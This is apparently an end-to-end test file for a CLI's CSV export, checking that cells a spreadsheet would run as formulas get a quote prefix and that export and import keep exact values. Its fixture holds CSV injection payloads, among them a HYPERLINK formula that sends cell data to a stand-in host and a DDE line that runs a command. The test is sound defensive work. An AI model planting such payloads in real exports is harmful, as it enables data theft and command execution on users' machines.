// -o csv and spreadsheets: a text a spreadsheet would run as a formula (=, +, -, @ first, or a
// tab or CR) is written with a ' before it (OWASP's CSV injection advice); numbers are left as
// they are, and `vx erp <set> import` reads vx's own CSV back to the exact values.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { useEmulator } from '../helpers/emulator.js';
import { removeDir, tempDir } from '../helpers/vx.js';

const e2e = useEmulator();
const dir = tempDir('vx-csv-');
afterAll(() => removeDir(dir));
const OTHER = '7a9c2d4e-6f80-4b1c-8d2e-3f4a5b6c7d8e';

const HOSTILE = {
  displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  jobTitle: '+cmd|\' /C calc\'!A0',
  email: '@SUM(1+1)',
  phoneNo: '-2+3',
  email2: "'=already quoted",
};

async function seed(): Promise<void> {
  const data = JSON.stringify({ code: 'XF1', ...HOSTILE, commisionPercent: 5 });
  expect((await e2e.run(['erp', 'salespeople', 'create', '--data', data])).code).toBe(0);
  expect((await e2e.run(['erp', 'salespeople', 'create', '--data', JSON.stringify({ code: 'XF2', displayName: '-12.50', phoneNo: '\tTab first' })])).code).toBe(0);
}

describe('-o csv guards cells a spreadsheet would run', () => {
  it("a ' before = + - @ (and a tab or CR); plain numbers and other texts as they are", async () => {
    await seed();
    const r = await e2e.run(['erp', 'salespeople', 'list', '--filter', "startswith(code,'XF')", '--select', 'code,displayName,jobTitle,email,phoneNo,email2', '-o', 'csv']);
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')).toEqual([
      'code,displayName,jobTitle,email,phoneNo,email2',
      `XF1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,''=already quoted`,
      'XF2,-12.50,,,\'\tTab first,',
      '',
    ]);
    // the other formats keep the payload exact
    const json = JSON.parse((await e2e.run(['erp', 'salespeople', 'get', 'XF1', '-o', 'json'])).stdout);
    expect(json).toMatchObject(HOSTILE);
  });

  it('export -o csv, then import: the exact values again', async () => {
    await seed();
    const out = join(dir, 'people.csv');
    expect((await e2e.run(['erp', 'salespeople', 'export', '--filter', "startswith(code,'XF')", '-o', 'csv', '--out', out])).code).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain(`"'=HYPERLINK(`);
    const copy = await e2e.run(['erp', 'salespeople', 'import', '--company', OTHER, '--file', out, '--journal', join(dir, 'copy.journal'), '-o', 'ndjson']);
    expect(copy.code).toBe(0);
    expect(copy.stderr).toContain('imported 2 rows: 2 created\n');
    const got = JSON.parse((await e2e.run(['erp', 'salespeople', 'get', 'XF1', '--company', OTHER, '-o', 'json'])).stdout);
    expect(got).toMatchObject(HOSTILE);
    const two = JSON.parse((await e2e.run(['erp', 'salespeople', 'get', 'XF2', '--company', OTHER, '-o', 'json'])).stdout);
    expect(two).toMatchObject({ displayName: '-12.50', phoneNo: '\tTab first' });
  });
});
